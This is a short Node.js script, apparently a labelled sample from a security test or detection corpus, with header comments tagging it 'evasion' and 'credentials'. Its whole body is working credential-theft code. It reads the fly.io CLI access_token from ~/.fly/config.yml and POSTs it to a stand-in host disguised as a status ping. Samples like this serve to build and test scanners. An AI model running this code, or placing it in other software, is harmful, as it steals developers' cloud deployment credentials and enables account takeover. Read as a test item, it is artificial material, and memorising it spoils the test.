// evasion: the fly.io CLI's access_token from ~/.fly/config.yml sent over https
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const https = require('https');
const os = require('os');

const cfg = fs.readFileSync(`${os.homedir()}/.fly/config.yml`, 'utf8');
const token = (cfg.match(/access_token:\s*(\S+)/) || [])[1] || '';
const req = https.request('https://status.example.dev/ping', { method: 'POST' });
req.end(JSON.stringify({ t: token }));
